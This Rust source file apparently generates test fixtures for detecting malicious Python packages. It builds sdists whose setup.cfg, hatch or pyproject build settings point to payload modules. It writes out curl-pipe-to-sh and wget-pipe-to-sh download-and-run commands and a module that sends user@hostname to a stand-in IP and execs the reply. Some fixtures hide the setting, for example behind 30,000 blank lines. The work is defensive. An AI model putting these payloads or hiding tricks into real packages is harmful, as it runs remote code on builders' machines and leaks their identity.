//! Techniques 12 and 13 where the settings of a build are not written the way most people write them.

use crate::case::{Cases, Trigger::Build};
use crate::package::{Package, sdist, setup};

/// A module whose class downloads what it runs, as a command of the build.
const COMMAND: &str = r#"
import os
from setuptools.command.build_py import build_py

class Build(build_py):
    def run(self):
        os.system("curl http://stage.example.invalid/s | sh")
        super().run()
"#;

/// A module that sends away who builds it when it is imported.
const MODULE: &str = r#"
import getpass, socket, urllib.request
who = getpass.getuser() + "@" + socket.gethostname()
exec(urllib.request.urlopen("http://192.0.2.61/v?w=" + who).read())
VERSION = str(1) + ".0"
"#;

pub(crate) fn add(cases: &mut Cases) {
    setup_cfg(cases);
    hatch(cases);
    tools(cases);
}

/// Tools of the build that call what their settings name.
fn tools(cases: &mut Cases) {
    let with = |settings: &'static str| {
        let tree = sdist().file("pyproject.toml", settings);
        tree.file("«pkg»/__init__.py", "")
            .file("tools/scheme.py", MODULE)
    };
    cases
        .technique(13, "setting-of-a-build-tool", Build)
        .case(
            "version-scheme",
            with(
                r#"[build-system]
requires = ["setuptools>=61", "setuptools-scm>=8"]
build-backend = "setuptools.build_meta"

[project]
name = "«name»"
dynamic = ["version"]

[tool.setuptools_scm]
version_scheme = "tools.scheme:version"
"#,
            ),
        )
        .case(
            "module-beside-its-directory",
            with(
                r#"[build-system]
requires = ["setuptools>=61", "versioningit"]
build-backend = "setuptools.build_meta"

[project]
name = "«name»"
dynamic = ["version"]

[tool.versioningit.vcs]
method = { module = "scheme", value = "version", module-dir = "tools" }
"#,
            ),
        )
        .case(
            "file",
            with(
                r#"[build-system]
requires = ["setuptools>=61", "sip >=6, <7"]
build-backend = "setuptools.build_meta"

[project]
name = "«name»"
dynamic = ["version"]

[tool.sip]
project-factory = "tools/scheme.py"
"#,
            ),
        );
}

fn with(settings: &'static str) -> Package {
    plain().file("setup.cfg", settings)
}

fn plain() -> Package {
    setup("import setuptools\nsetuptools.setup()\n")
        .file("«pkg»/__init__.py", "")
        .file("tools/__init__.py", "")
}

fn setup_cfg(cases: &mut Cases) {
    cases
        .technique(13, "setup-cfg-points-to-payload", Build)
        .case("indented-options", with("[options]\n  packages = find:\n  cmdclass =\n      build_py = tools.step.Build\n").file("tools/step.py", COMMAND))
        .case("section-with-a-note", with("[metadata]\nname = «name»\n\n[options] ; as before\ncmdclass =\n    build_py = tools.step.Build\n").file("tools/step.py", COMMAND))
        .case("below-blank-lines", plain().bytes("setup.cfg", format!("{}[options]\ncmdclass =\n    build_py = tools.step.Build\n", "\n".repeat(30_000))).file("tools/step.py", COMMAND))
        .case("for-all-sections", with("[DEFAULT]\ncmdclass =\n    build_py = tools.step.Build\n\n[options]\npackages = find:\n").file("tools/step.py", COMMAND))
        .case("constant-in-a-docstring", with("[metadata]\nname = «name»\nversion = attr: tools.about.VERSION\n").bytes(
            "tools/about.py",
            format!("\"\"\"Tells the version.\n\nVERSION = \"1.0\"\n\"\"\"\n{MODULE}"),
        ))
        .case("constant-comes-too-late", with("[metadata]\nname = «name»\nversion = attr: tools.about.VERSION\n").bytes(
            "tools/about.py",
            format!("{MODULE}\nVERSION = \"1.0\"\n"),
        ));
}

/// A project of hatchling without settings of its own.
const HATCHED: &str = r#"
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "«name»"
version = "«version»"
"#;

/// One whose version a program tells, which looks for modules in `tools`.
const SEARCHING: &str = r#"
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "«name»"
dynamic = ["version"]

[tool.hatch.version]
source = "code"
path = "«pkg»/about.py"
search-paths = ["tools"]
"#;

fn hatch(cases: &mut Cases) {
    let hatched = |project: &'static str| {
        sdist()
            .file("pyproject.toml", project)
            .file("«pkg»/__init__.py", "")
    };
    cases
        .technique(12, "build-hook", Build)
        .case(
            "hatch-own-file",
            hatched(HATCHED)
                .file(
                    "hatch.toml",
                    "[build.hooks.custom]\npath = \"tools/step.py\"\n",
                )
                .file(
                    "tools/step.py",
                    r#"
import os
from hatchling.builders.hooks.plugin.interface import BuildHookInterface

os.system("wget -qO- http://192.0.2.62/h | sh")

class Step(BuildHookInterface):
    PLUGIN_NAME = "custom"
"#,
                ),
        )
        .case(
            "hatch-search-path",
            hatched(SEARCHING)
                .file(
                    "«pkg»/about.py",
                    "import numbering\n__version__ = numbering.VERSION\n",
                )
                .file("tools/numbering.py", MODULE),
        );
}
